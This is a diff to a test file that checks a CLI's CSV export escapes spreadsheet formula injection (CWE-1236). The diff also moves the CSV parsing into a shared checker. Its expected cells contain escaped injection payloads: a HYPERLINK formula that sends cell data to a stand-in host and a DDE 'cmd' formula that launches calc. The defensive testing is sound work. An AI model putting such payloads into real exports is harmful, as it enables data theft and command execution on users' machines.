@@ -11,6 +11,7 @@ import { csvField, toCsv } from '../../../shared/render/csv';
 import { terminalSafe } from '../../../scripts/cli/format/terminal';
 import { renderTable } from '../../../scripts/cli/format/table';
 import { runCli } from '../../support/cli';
+import { expectCsvSafe } from '../../support/csv';
 
 const REPO = join(dirname(fileURLToPath(import.meta.url)), '../../..');
 const FIELD_CASE = join(REPO, 'test/fixtures/field-cases/12-soa-csv-formula-injection/soa-entry.yaml');
@@ -27,35 +28,6 @@ function copy(): string {
   const ws = join(base, `ws-${++n}`);
   cpSync(demo, ws, { recursive: true });
   return ws;
-}
-
-/** RFC 4180 reader for the test: quoted fields, doubled quotes, CRLF records. */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let field = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const c = text[i]!;
-    if (quoted) {
-      if (c === '"' && text[i + 1] === '"') {
-        field += '"';
-        i++;
-      } else if (c === '"') quoted = false;
-      else field += c;
-    } else if (c === '"') quoted = true;
-    else if (c === ',') {
-      row.push(field);
-      field = '';
-    } else if (c === '\r' && text[i + 1] === '\n') {
-      row.push(field);
-      rows.push(row);
-      row = [];
-      field = '';
-      i++;
-    } else field += c;
-  }
-  return rows;
 }
 
 describe('--out never overwrites the register', () => {
@@ -129,7 +101,7 @@ describe('CSV injection (field case 12, CWE-1236)', () => {
     expect(recorded.err).toBe('');
     const run = await runCli(['soa', '--workspace', ws, '--format', 'csv']);
     expect(run.code).toBe(0);
-    const rows = parseCsv(run.out + '\r\n');
+    const rows = expectCsvSafe(run.out + '\r\n');
     const header = rows[0]!;
     const row = rows.find((r) => r[0] === 'A.6.2.4')!;
     const cell = (name: string) => row[header.indexOf(name)];
@@ -137,7 +109,6 @@ describe('CSV injection (field case 12, CWE-1236)', () => {
       `'=HYPERLINK("http://evidence.example/collect?d="&A1,"Open evidence")`,
     );
     expect(cell('Owner')).toBe(`'+cmd|' /C calc'!A0`);
-    for (const r of rows) for (const c of r) expect(c).not.toMatch(/^[=+\-@\t\r]/);
   });
 
   it.each([
@@ -154,6 +125,17 @@ describe('CSV injection (field case 12, CWE-1236)', () => {
     ['', ''],
   ])('csvField(%j) is %j', (input, expected) => {
     expect(csvField(input)).toBe(expected);
+  });
+
+  it("the tests' CSV check itself fails on a formula cell, a short row or a missing CRLF", () => {
+    expect(() => expectCsvSafe('a,b\r\n=1+1,x\r\n')).toThrow();
+    expect(() => expectCsvSafe('a,b\r\n@SUM(A1),x\r\n')).toThrow();
+    expect(() => expectCsvSafe('a,b\r\nx\r\n')).toThrow();
+    expect(() => expectCsvSafe('a,b\r\nx,y')).toThrow();
+    expect(expectCsvSafe(toCsv(['a', 'b'], [['=1', 'x,"y"']]))).toEqual([
+      ['a', 'b'],
+      ["'=1", 'x,"y"'],
+    ]);
   });
 
   it('rows end in CRLF', () => {
